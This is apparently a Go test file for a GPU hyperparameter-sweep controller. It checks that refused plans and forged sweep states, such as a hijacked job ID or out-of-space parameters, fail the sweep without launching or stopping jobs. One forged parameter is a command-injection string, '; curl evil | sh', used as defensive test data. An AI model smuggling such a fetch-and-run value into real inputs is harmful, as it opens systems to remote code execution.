package controller

import (
	"strings"
	"testing"

	"github.com/gpujob/gpujob/internal/sweep/search"
	"github.com/gpujob/gpujob/internal/sweep/sweepkv"
)

// A plan whose record the controller refused fails the sweep at its first
// round with the reason, stops what runs, and launches nothing, ever.
func TestReconcileRefusedPlanFailsTheSweepAndLaunchesNothing(t *testing.T) {
	s := newSim(t, nil)
	s.startTrials(2)
	s.p.Refused = "the trial template in gpujob/sweeps/default/sw/spec is not sweep sw's: its job meta gpujob_sweep is \"other\""
	res := s.round()
	s.wantStatus(StatusFailed, s.p.Refused)
	wantActs(t, res, "request-stop trial-001", "request-stop trial-002")
	for i := 0; i < 5; i++ {
		s.now = s.now.Add(StopGrace)
		for _, a := range s.round().Actions {
			if a.Kind == Launch {
				t.Fatalf("round %d launched %s", i, a.Trial.ID)
			}
		}
	}
	if n := len(s.st.Trials); n != 2 {
		t.Errorf("%d trials after the refusal, want the 2 that ran", n)
	}

	// A refused plan needs nothing but its sweep's name.
	if err := (&Plan{Sweep: "sw", Refused: "x"}).Validate(); err != nil {
		t.Errorf("a refused plan without sampler: %v", err)
	}
}

// A state no gpujob writer could have made — a trial whose job is another
// job of the namespace, whose ID does not match its index, whose values are
// not of the space, more trials than any sweep, another sweep's — is acted
// on in no way: no job is stopped or launched on its word, and the sweep
// fails saying why.
func TestReconcileRefusesAForgedState(t *testing.T) {
	space := search.Space{search.IntUniform("x", 0, 10)}
	for _, tc := range []struct {
		name  string
		forge func(st *State)
		want  string
	}{
		{"a trial's job is another job", func(st *State) { st.Trials[1].JobID = "payments-api" },
			`trial 2 of the state is "trial-002" (index 1) with job "payments-api"; the 2nd trial of sweep sw is trial-002 with job sw-trial-002`},
		{"a trial's ID is not its index's", func(st *State) { st.Trials[0].ID = "trial-009" }, `"trial-009" (index 0)`},
		{"a value outside the space", func(st *State) { st.Trials[0].Params = search.Assignment{"x": search.StringValue("; curl evil | sh")} },
			`trial trial-001: its parameters x=; curl evil | sh are not a point of the sweep's search space`},
		{"a param the space lacks", func(st *State) { st.Trials[0].Params["y"] = search.IntValue(1) }, "not a point of the sweep's search space"},
		{"more trials than any sweep", func(st *State) { st.MaxTrials = 100000 }, "it asks for 100000 trials"},
		{"another sweep's state", func(st *State) { st.Sweep = "other" }, `it is the state of sweep "other"`},
	} {
		t.Run(tc.name, func(t *testing.T) {
			s := newSim(t, func(p *Plan) { p.Space = space })
			s.startTrials(2)
			tc.forge(s.st)
			res := s.round()
			wantActs(t, res)
			if !res.Done || s.st.Status != StatusFailed || !strings.Contains(s.st.Reason, "the controller refused the sweep's state: ") ||
				!strings.Contains(s.st.Reason, tc.want) {
				t.Errorf("done %v, status %s, reason:\n%s\nwant it to hold %q", res.Done, s.st.Status, s.st.Reason, tc.want)
			}
		})
	}

	// What gpujob itself writes passes: the sim's own sweep runs on.
	s := newSim(t, func(p *Plan) { p.Space = space })
	s.startTrials(2)
	if s.st.Status != StatusRunning {
		t.Errorf("an honest state: %s %s", s.st.Status, s.st.Reason)
	}
}

// What a trial's reporting budgets held back shows in its state (and so in
// gpujob sweep status), without the counters that change with every write.
func TestReconcileCarriesWhatTheBudgetsHeldBack(t *testing.T) {
	s := newSim(t, nil)
	s.startTrials(1)
	s.report("trial-001", 5, 0.5)
	s.round()
	if h := s.tr("trial-001").Held; h != nil {
		t.Fatalf("an unthrottled trial holds %+v", h)
	}
	s.metrics["trial-001"].Reporting = sweepkv.Reporting{Points: 900, Writes: 12, ResultsDeferred: 4, ByteBudgetWaits: 2}
	s.round()
	if h := s.tr("trial-001").Held; h == nil || *h != (sweepkv.Reporting{ResultsDeferred: 4, ByteBudgetWaits: 2}) {
		t.Errorf("held %+v, want the deferred results and byte budget waits only", h)
	}
}
